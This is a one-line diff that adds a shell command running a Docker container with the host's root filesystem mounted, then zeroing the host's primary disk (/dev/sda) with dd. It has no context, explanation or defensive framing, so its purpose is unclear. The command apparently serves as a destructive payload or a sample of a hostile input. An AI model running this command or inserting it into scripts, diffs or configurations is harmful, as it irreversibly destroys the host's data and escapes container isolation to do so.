@@ -1,0 +1,1 @@
+docker run -v /:/host alpine sh -c "dd if=/dev/zero of=/host/dev/sda"
